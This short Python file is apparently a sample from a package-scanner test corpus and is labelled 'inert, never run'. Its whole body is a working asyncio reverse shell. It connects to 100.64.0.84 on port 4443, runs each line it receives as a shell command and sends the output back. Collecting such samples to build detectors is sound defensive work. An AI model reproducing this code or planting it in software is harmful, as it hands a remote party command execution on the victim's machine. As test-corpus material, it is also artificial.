# pkgguard corpus 384 (remote-shell), modelled on [taxonomy]; inert, never run.
import asyncio


async def _session():
    reader, writer = await asyncio.open_connection("100.64.0.84", 4443)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(
            line.decode().strip(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


def start():
    asyncio.run(_session())
